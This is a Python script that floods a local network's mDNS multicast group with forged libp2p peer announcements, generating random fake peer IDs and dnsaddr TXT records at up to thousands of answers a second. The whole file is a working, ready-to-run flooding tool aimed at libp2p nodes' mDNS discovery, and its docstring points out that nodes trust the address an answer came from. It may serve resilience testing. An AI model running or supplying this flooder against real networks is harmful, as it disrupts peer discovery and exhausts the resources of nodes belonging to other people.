#!/usr/bin/env python3
"""Floods the local network with answers of mDNS by peers that do not exist.

    mdns_flood.py --interface IP [--rate N] [--seconds S] [--addresses N] [--ttl S]

Each answer is what libp2p nodes say about themselves: a PTR record of _p2p._udp.local and TXT records with
`dnsaddr=`. The peers are random, so that every answer is new. A node believes the IP address that an answer came
from, not the one it names. Standard library only.
"""

import argparse
import os
import socket
import struct
import time

GROUP = ("224.0.0.251", 5353)
ALPHABET = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"


def base58(data):
    n, out = int.from_bytes(data, "big"), bytearray()
    while n:
        n, digit = divmod(n, 58)
        out.append(ALPHABET[digit])
    zeros = len(data) - len(data.lstrip(b"\x00"))
    return b"1" * zeros + bytes(out[::-1])


def peer_id():
    """As in specs/identity.md: the identity multihash of a SHA3-256 multihash."""
    return base58(b"\x00\x22\x16\x20" + os.urandom(32)).decode()


def name(text):
    labels = [part.encode() for part in text.split(".")]
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\x00"


def record(owner, kind, ttl, data):
    return owner + struct.pack(">HHIH", kind, 0x8001 if kind == 16 else 1, ttl, len(data)) + data


def answer(addresses, ttl):
    peer, own = peer_id(), name(os.urandom(16).hex() + ".local")
    extra = []
    for i in range(addresses):
        text = f"dnsaddr=/ip4/10.0.0.1/tcp/{41000 + i}/p2p/{peer}".encode()
        extra.append(record(own, 16, ttl, bytes([len(text)]) + text))
    pointer = record(name("_p2p._udp.local"), 12, ttl, own)
    head = struct.pack(">HHHHHH", 0, 0x8400, 0, 1, 0, len(extra))
    return head + pointer + b"".join(extra)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--interface", required=True, help="our address on the network to flood")
    parser.add_argument("--rate", type=int, default=10_000, help="answers a second")
    parser.add_argument("--seconds", type=float, default=30)
    parser.add_argument("--addresses", type=int, default=1, help="addresses in an answer")
    parser.add_argument("--ttl", type=int, default=360)
    args = parser.parse_args()
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(args.interface))
    sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
    sock.bind((args.interface, 0))
    start, sent = time.monotonic(), 0
    while (elapsed := time.monotonic() - start) < args.seconds:
        for _ in range(min(int(elapsed * args.rate) - sent, 1000)):
            sock.sendto(answer(args.addresses, args.ttl), GROUP)
            sent += 1
        time.sleep(0.001)
    print(f"{sent} answers in {elapsed:.1f} s, {sent / elapsed:.0f} a second")


if __name__ == "__main__":
    main()
